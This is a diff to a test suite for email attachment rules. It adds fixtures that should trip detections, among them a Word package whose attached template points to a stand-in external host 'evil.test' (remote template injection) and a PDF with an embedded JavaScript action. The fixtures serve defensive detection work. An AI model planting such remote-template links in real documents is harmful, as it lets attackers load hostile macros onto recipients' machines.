@@ -48,6 +48,15 @@ function ole(stream: string): Buffer {
   return Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(1016), entry]);
 }
 
+const REMOTE = zip([
+  { name: '[Content_Types].xml', content: '<x/>' },
+  {
+    name: 'word/_rels/settings.xml.rels',
+    content:
+      '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.test/t.dotm" TargetMode="External"/></Relationships>',
+  },
+]);
+
 describe('attachment rules', () => {
   it.each<[string, string, Buffer | string, string[]]>([
     ['a picture', 'cat.png', Buffer.from('\x89PNG\r\n\x1a\n....', 'latin1'), []],
@@ -76,6 +85,16 @@ describe('attachment rules', () => {
       ]),
       ['ATTACH_MACRO'],
     ],
+    ['a document that is encrypted', 'plan.docx', ole('EncryptedPackage'), ['ATTACH_DOCUMENT_ENCRYPTED']],
+    ['a document with a template elsewhere', 'plan.docx', REMOTE, ['ATTACH_REMOTE_TEMPLATE']],
+    ['a PDF', 'plan.pdf', '%PDF-1.7\n1 0 obj <</Type /Catalog>>', []],
+    [
+      'a PDF with a script',
+      'plan.pdf',
+      '%PDF-1.7\n1 0 obj <</S /JavaScript /JS (app.alert(1))>>',
+      ['ATTACH_PDF_ACTIVE'],
+    ],
+    ['an archive with wide sizes', 'all.zip', zip([{ name: 'a.txt', content: 'x', wide: true }]), []],
     ['a document without', 'plan.xlsx', zip([{ name: '[Content_Types].xml', content: '<x/>' }]), []],
     ['no document under the name of one', 'plan.docx', 'hello', ['ATTACH_TYPE_MISMATCH']],
     ['an archive', 'all.zip', zip([{ name: 'notes.txt', content: 'x' }]), []],
